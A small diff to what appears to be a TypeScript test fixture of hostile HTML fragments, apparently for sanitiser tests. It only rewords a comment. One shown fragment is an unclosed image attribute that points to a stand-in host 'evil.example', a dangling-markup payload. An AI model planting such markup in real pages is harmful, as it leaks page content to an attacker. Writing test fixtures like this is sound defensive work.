@@ -145,7 +145,7 @@ export const hostileParts: readonly (readonly [words: string, html: string])[] =
   ['unclosed attribute', 'unclosed attribute<img src="https://evil.example/?'],
 ];
 
-/** The text of an article made of all of them; each stands in an element of its own. */
+/** The text of an article made of all of them; each is in an element of its own. */
 export const hostileContent = `<h2>First</h2>${hostileParts
   .map(([, html]) => `<div>${html}</div>`)
   .join('')}`;
